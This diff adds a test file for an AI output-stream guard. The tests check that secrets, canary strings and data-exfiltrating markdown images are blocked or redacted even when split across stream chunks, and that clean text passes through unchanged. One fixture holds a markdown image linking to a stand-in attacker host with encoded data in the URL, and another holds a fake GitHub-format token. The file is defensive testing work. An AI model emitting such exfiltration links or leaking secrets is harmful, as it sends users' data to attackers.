@@ -1,0 +1,125 @@
+/**
+ * The output stream's promise: whatever the chunking, nothing a detector would block or redact is ever
+ * released, and clean text comes out exactly as it went in.
+ */
+import assert from 'node:assert/strict';
+import { test } from 'node:test';
+import { createGuard } from '../../src/guard/guard.ts';
+import { holdbackWindow } from '../../src/guard/stream.ts';
+import { mulberry32 } from '../fixtures/prng.ts';
+
+const guard = createGuard();
+const CANARY = 'pcn-7f3a9c21d4e8b605';
+// A made-up key in the GitHub classic-token format (ghp_ + 36 alphanumerics).
+const TOKEN = 'ghp_R2d2C3poBb8Lk1Mn0Qx7Zt4Vw9Yu6Js5Hg3F';
+
+function filler(random: () => number, words: number): string {
+  const vocab = [
+    'the',
+    'model',
+    'answer',
+    'is',
+    'here',
+    'with',
+    'some',
+    'detail',
+    'about',
+    'weights',
+    'and',
+    'data',
+  ];
+  const out: string[] = [];
+  for (let i = 0; i < words; i++) out.push(vocab[Math.floor(random() * vocab.length)] ?? 'x');
+  return out.join(' ');
+}
+
+/** Splits text into chunks of 1 to `max` characters, as a token stream would. */
+function chunks(text: string, random: () => number, max: number): string[] {
+  const out: string[] = [];
+  for (let i = 0; i < text.length; ) {
+    const n = 1 + Math.floor(random() * max);
+    out.push(text.slice(i, i + n));
+    i += n;
+  }
+  return out;
+}
+
+function stream(text: string, random: () => number, max: number, context = {}) {
+  const s = guard.outputStream(context);
+  let released = '';
+  let action = 'allow';
+  for (const c of chunks(text, random, max)) {
+    const step = s.push(c);
+    released += step.release;
+    action = step.action;
+  }
+  const last = s.end();
+  released += last.release;
+  if (last.action !== 'allow') action = last.action;
+  return { released, action };
+}
+
+test('clean text streams out unchanged whatever the chunk sizes', () => {
+  const random = mulberry32(7);
+  for (let round = 0; round < 20; round++) {
+    const text = filler(random, 50 + Math.floor(random() * 3000));
+    const { released, action } = stream(text, random, 1 + Math.floor(random() * 64));
+    assert.equal(action, 'allow');
+    assert.equal(released, text);
+  }
+});
+
+test('a secret split across chunks is never released, and the rest of the text is', () => {
+  const random = mulberry32(11);
+  for (let round = 0; round < 40; round++) {
+    const before = filler(random, Math.floor(random() * 1500));
+    const after = filler(random, Math.floor(random() * 1500));
+    const text = `${before} token ${TOKEN} ${after}`;
+    const { released, action } = stream(text, random, 1 + Math.floor(random() * 40));
+    assert.equal(action, 'redact');
+    assert.ok(!released.includes(TOKEN.slice(4, 20)), `round ${round} leaked part of the token`);
+    assert.ok(released.startsWith(before), 'text before the secret is released');
+    assert.ok(released.endsWith(after), 'text after the secret is released');
+  }
+});
+
+test('a canary leak blocks the stream before any of the canary is released', () => {
+  const random = mulberry32(13);
+  for (let round = 0; round < 40; round++) {
+    const text = `${filler(random, Math.floor(random() * 2000))} ${CANARY} ${filler(random, 200)}`;
+    const { released, action } = stream(text, random, 1 + Math.floor(random() * 32), { canaries: [CANARY] });
+    assert.equal(action, 'block');
+    assert.ok(!released.includes('pcn-7f3a'), `round ${round} released the canary's start`);
+  }
+});
+
+test('a markdown image exfiltrating data is not released even one character at a time', () => {
+  const random = mulberry32(17);
+  const image = '![status](https://collector.evil.example/log?d=c2VjcmV0LXRva2VuLWhlcmU)';
+  const text = `${filler(random, 300)} ${image} ${filler(random, 300)}`;
+  const { released, action } = stream(text, random, 1);
+  assert.notEqual(action, 'allow');
+  assert.ok(!released.includes('collector.evil.example/log?d='));
+});
+
+test('the stream holds back no more than the largest detector window', () => {
+  const window = holdbackWindow(guard.detectors.filter((d) => d.meta.directions.includes('output')));
+  const s = guard.outputStream();
+  const text = 'a '.repeat(20_000);
+  let released = 0;
+  for (let i = 0; i < text.length; i += 100) released += s.push(text.slice(i, i + 100)).release.length;
+  assert.ok(
+    text.length - released <= window + Math.max(256, window / 4) + 100,
+    `held back ${text.length - released}`,
+  );
+  assert.equal(released + s.end().release.length, text.length);
+});
+
+test('a long stream keeps memory bounded (text is trimmed behind the release point)', () => {
+  const s = guard.outputStream();
+  const piece = 'lorem ipsum dolor sit amet '.repeat(40);
+  let out = 0;
+  for (let i = 0; i < 2000; i++) out += s.push(piece).release.length;
+  out += s.end().release.length;
+  assert.equal(out, piece.length * 2000);
+});
